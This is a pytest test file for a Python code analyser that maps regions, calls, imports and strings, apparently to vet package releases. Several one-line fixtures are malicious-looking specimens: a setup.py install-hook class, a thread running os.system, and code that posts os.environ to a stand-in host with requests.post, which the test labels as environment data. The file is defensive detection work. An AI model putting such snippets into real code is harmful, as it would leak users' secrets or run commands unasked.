# ruff: noqa: E501 - one specimen a line reads best
"""Regions, their digests and what they call; imports; texts; places."""

import pytest

from pratique.vet.model import Import, RegionKind
from pratique.vet.python import Label, PythonFile, read_python

SOURCE = '''"""Docs of the module."""
import os
from .near import helper
from . import other as o


class Tool(Base):
    """Docs of the class."""

    level = os.getpid()

    def run(self):
        """Docs of the method."""
        self.stop()
        helper()

    def stop(self):
        def inside():
            o.thing()
        return inside


def main():
    Tool().run()


if __name__ == "__main__":
    main()
'''


def digests(source: str) -> dict[str, str]:
    return {region.name: region.digest for region in read_python(source).regions}


def calls(file: PythonFile, name: str) -> set[str]:
    return set(next(region for region in file.regions if region.name == name).calls)


def test_regions_are_the_module_its_functions_and_methods_and_the_main_guard() -> None:
    file = read_python(SOURCE)
    assert [(region.name, region.kind) for region in file.regions[:1]] == [("", RegionKind.MODULE)]
    assert {region.name for region in file.regions} == {
        "",
        "Tool.run",
        "Tool.stop",
        "main",
        "__main__",
    }
    assert next(region for region in file.regions if region.name == "Tool.run").line == 12


def test_regions_know_what_they_call() -> None:
    file = read_python(SOURCE)
    assert {".Tool.stop", "..near.helper"} <= calls(file, "Tool.run")
    assert "...o.thing" not in calls(file, "Tool.stop")
    assert "..other.thing" in calls(file, "Tool.stop")
    assert ".Tool.run" in calls(file, "main")
    assert ".main" in calls(file, "__main__")


def test_functions_that_are_handed_on_are_called() -> None:
    file = read_python(
        "import threading\ndef f(): pass\ndef g():\n    threading.Thread(target=f).start()\n"
    )
    assert ".f" in calls(file, "g")


def test_a_class_handed_to_setup_stands_for_its_methods() -> None:
    source = "from setuptools import setup\nclass I(install):\n    def run(self): pass\nsetup(cmdclass={'install': I})\n"
    assert ".I.run" in calls(read_python(source), "")


def test_a_thread_that_is_started_runs() -> None:
    source = "import os\nfrom threading import Thread\nclass T(Thread):\n    def run(self):\n        os.system(self.c)\nT().start()\n"
    file = read_python(source)
    assert [call.name for call in file.calls] == ["os.system"]
    assert ".T.run" in calls(file, "")


def test_a_property_runs_when_it_is_read() -> None:
    source = "import os\nclass A:\n    @property\n    def e(self):\n        return os.environ\nimport requests\nrequests.post('https://a.example', data=A().e)\n"
    posted = next(call for call in read_python(source).calls if call.name == "requests.post")
    assert Label.ENVIRONMENT in posted.labels


def test_digests_do_not_depend_on_layout_or_docstrings() -> None:
    one = digests(SOURCE)
    other = digests(
        SOURCE.replace("        self.stop()\n", "        self.stop(\n        )  # remark\n\n")
        .replace("Docs of the method", "Other docs")
        .replace("Docs of the module", "Other")
        .replace("def main():", "\n\ndef main():")
    )
    assert one == other


def test_digests_tell_code_apart() -> None:
    one = digests(SOURCE)
    other = digests(SOURCE.replace("self.stop()", "self.stop(1)"))
    assert {name for name in one if one[name] != other[name]} == {"Tool.run"}
    assert digests("x = 'a'")[""] != digests("x = b'a'")[""]
    assert digests("x = 1")[""] != digests("x = '1'")[""]
    assert digests("f(a, [b])")[""] != digests("f([a], b)")[""]
    assert digests("if a:\n    b\nc")[""] != digests("if a:\n    b\n    c")[""]


def test_imports_stand_in_their_region() -> None:
    file = read_python("import a.b\ndef f():\n    from .c import d as e\n")
    assert file.imports == (
        Import(module="a.b", region=0, line=1),
        Import(module=".c", name="d", region=1, line=3),
    )


def test_calls_stand_in_their_region_and_place() -> None:
    file = read_python('import os\ndef f():\n    x = "é"; os.system("a")\n')
    (call,) = file.calls
    assert (call.line, call.column, file.regions[call.region].name) == (3, 13, "f")
    assert call.excerpt == 'x = "é"; os.system("a")'


def test_texts() -> None:
    file = read_python(
        '"""Long docstring."""\nx = "some text"\ny = b"some bytes"\nz = "ab"\nw = "part " + "of it"\n'
    )
    assert [(text.text, text.line, text.docstring, text.built) for text in file.texts] == [
        ("Long docstring.", 1, True, False),
        ("some text", 2, False, False),
        ("some bytes", 3, False, False),
        ("part of it", 5, False, True),
    ]


def test_module_names_are_stored() -> None:
    file = read_python('A = "x" + "y"\nB = unknown\n')
    assert file.stored["A"].constant == "xy"
    assert not file.stored["B"].folded


@pytest.mark.parametrize(
    ("source", "path"),
    [
        ('exec(open("pkg/x.py").read())', "pkg/x.py"),
        ('with open("pkg/x.py") as f:\n    exec(compile(f.read(), "x", "exec"))', "pkg/x.py"),
        (
            'import os\nexec(open(os.path.join(os.path.dirname(__file__), "x.dat")).read())',
            "./x.dat",
        ),
        ('import importlib.util as u\nu.spec_from_file_location("n", "pkg/x.py")', "pkg/x.py"),
        ('import runpy\nrunpy.run_path("x.py")', "./x.py"),
        ('import subprocess, sys\nsubprocess.run([sys.executable, "pkg/x.py"])', "pkg/x.py"),
    ],
)
def test_code_that_is_run_by_its_path_is_imported(source: str, path: str) -> None:
    assert path in {item.module for item in read_python(source).imports}


def test_a_method_of_an_imported_class_is_called_on_what_making_it_gives() -> None:
    file = read_python(b"from pkg.runner import Runner\n\nRunner().fetch().start()\n")
    made = {"pkg.runner.Runner", "pkg.runner.Runner.fetch", "pkg.runner.Runner.start"}
    assert made <= set(file.regions[0].calls)
    inside = read_python(
        b"def go():\n    from pkg.runner import Runner\n\n    Runner().fetch().start()\n"
    )
    assert made <= set(inside.regions[1].calls)


def test_methods_of_the_standard_library_are_not_taken_for_calls_of_the_release() -> None:
    file = read_python(b"from threading import Thread\n\nThread()\nopen('x').run()\n")
    assert "threading.Thread.run" not in file.regions[0].calls
